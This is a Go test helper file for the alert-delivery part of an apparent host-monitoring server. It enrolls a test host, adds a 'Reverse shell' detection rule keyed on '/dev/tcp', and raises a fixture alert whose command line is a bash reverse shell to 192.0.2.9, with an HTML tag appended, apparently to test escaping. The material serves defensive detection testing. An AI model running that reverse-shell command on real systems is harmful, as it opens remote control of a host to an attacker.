package outputs

import (
	"bytes"
	"context"
	"encoding/json"
	"log/slog"
	"sync"
	"testing"
	"time"

	"muster/server/alerts"
	"muster/server/bus"
	"muster/server/database"
	"muster/server/detect"
	"muster/server/hosts"
	"muster/server/jobs"
)

// rig is alerters over real stores, with a host (web-1), a rule, and a clock that
// the test moves.
type rig struct {
	t        *testing.T
	db       *database.DB
	clock    *clock
	log      *logBuffer
	mail     *Mail
	queue    *jobs.Queue
	alerts   *alerts.Store
	alerters *Alerters
	host     int64
	rule     int64
}

type clock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *clock) pass(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(d)
}

// logBuffer keeps what is logged.
type logBuffer struct {
	mu   sync.Mutex
	text bytes.Buffer
}

func (b *logBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.text.Write(p)
}

func (b *logBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.text.String()
}

func newRig(t *testing.T, db *database.DB, mail MailOptions) *rig {
	t.Helper()
	r := &rig{t: t, db: db, clock: &clock{now: noon}, log: &logBuffer{}}
	log := slog.New(slog.NewTextHandler(r.log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	hints := bus.NewMemory()
	register := hosts.New(db, hints, log, hosts.Options{Now: r.clock.Now})
	rules := detect.New(db, hints, log, detect.Options{Now: r.clock.Now})
	r.ok(register.Load(t.Context()))
	mail.Now = r.clock.Now
	r.mail = NewMail(db, newBox(t, 1), mail)
	r.queue = jobs.NewQueue(db, hints, log, jobs.QueueOptions{Now: r.clock.Now, Poll: 5 * time.Millisecond})
	r.alerts = alerts.New(db)
	r.alerts.Now = r.clock.Now
	r.alerters = NewAlerters(AlerterDeps{
		DB: db, Box: newBox(t, 1), Mail: r.mail, Queue: r.queue, Hosts: register, Alerts: r.alerts, Rules: rules, Log: log,
		ConsoleURL: "https://console.example.com", Now: r.clock.Now,
	})
	r.queue.Handle(r.alerters.Worker())
	r.seed(register, rules)
	return r
}

func (r *rig) seed(register *hosts.Store, rules *detect.Store) {
	r.t.Helper()
	ctx := r.t.Context()
	_, err := register.AddSecret(ctx, hosts.NewSecret{Name: "test", Secret: "enrol-me-please", Tags: []string{"lab"}})
	r.ok(err)
	_, host, err := register.Enroll(ctx, hosts.Enrollment{
		Secret: "enrol-me-please", Identifier: "11111111-AAAA-4AAA-8AAA-111111111111", PlatformType: "9", Address: "192.0.2.10",
		Details: map[string]map[string]string{
			"os_version":  {"name": "Ubuntu", "platform": "ubuntu", "major": "24"},
			"system_info": {"hostname": "web-1", "computer_name": "web-1.example", "hardware_model": "Standard PC", "uuid": "11111111-AAAA-4AAA-8AAA-111111111111"},
		},
	})
	r.ok(err)
	r.host = host.ID
	rule, err := rules.Add(ctx, detect.Rule{
		Name: "Reverse shell", Description: "A shell of $username was started by $parent", Severity: "CRITICAL", Status: "ACTIVE", Type: "MITRE",
		Conditions: json.RawMessage(`{"condition":"AND","rules":[{"field":"cmdline","operator":"contains","value":"/dev/tcp"}]}`),
	})
	r.ok(err)
	r.rule = rule.ID
}

func (r *rig) ok(err error) {
	r.t.Helper()
	if err != nil {
		r.t.Fatal(err)
	}
}

// run runs the queue until the test ends.
func (r *rig) run() {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); r.queue.Run(ctx) }()
	r.t.Cleanup(func() { cancel(); <-done })
}

// until waits for a state of affairs.
func (r *rig) until(what string, holds func() bool) {
	r.t.Helper()
	for deadline := time.Now().Add(20 * time.Second); !holds(); time.Sleep(time.Millisecond) {
		if time.Now().After(deadline) {
			r.t.Fatalf("not in time: %s\n%s", what, r.log)
		}
	}
}

// add stores an alerter with settings.
func (r *rig) add(name, kind string, settings any) {
	r.t.Helper()
	text, err := json.Marshal(settings)
	r.ok(err)
	_, err = r.alerters.Add(r.t.Context(), NewReceiver{Name: name, Kind: kind, Active: true, Settings: text})
	r.ok(err)
}

// raise raises an alert of the rule; n tells one from another.
func (r *rig) raise(n string) alerts.Raised {
	r.t.Helper()
	raised, err := r.alerts.Raise(r.t.Context(), []alerts.Finding{{
		HostID: r.host, Source: alerts.Rule, RuleID: r.rule, Name: "Reverse shell", Group: "rule:" + n, Severity: "CRITICAL",
		QueryName: "process_events", Action: "added", UnixTime: noon.Add(-time.Minute).Unix(),
		Columns:      json.RawMessage(`{"pid":"4711","cmdline":"bash -i >& /dev/tcp/192.0.2.9/99\n<b>","username":"root","severity":"NONE","uid":0}`),
		Why:          json.RawMessage(`[{"field":"cmdline","operator":"contains","value":"/dev/tcp","actual":"bash -i >& /dev/tcp/192.0.2.9/99"}]`),
		TechniqueIDs: []string{"T1059.004"}, Tactics: []string{"execution"},
	}})
	r.ok(err)
	return raised[0]
}

// tell adds the job that tells an alerter of an alert.
func (r *rig) tell(raised alerts.Raised, alerter string) {
	r.t.Helper()
	r.ok(r.queue.Add(r.t.Context(), jobs.NewJob{Kind: NotifyKind, Args: NotifyArgs{AlertID: raised.Alert.ID, EventID: raised.EventID, Alerter: alerter}}))
}

func (r *rig) jobs(state jobs.State) []Undelivered {
	r.t.Helper()
	list, _, err := r.alerters.Undelivered(r.t.Context(), state, 0, 1000)
	r.ok(err)
	return list
}

// notice is what alerters are told of an alert.
func (r *rig) notice(raised alerts.Raised) Notice {
	r.t.Helper()
	n, err := r.alerters.notice(r.t.Context(), NotifyArgs{AlertID: raised.Alert.ID, EventID: raised.EventID})
	r.ok(err)
	return n
}
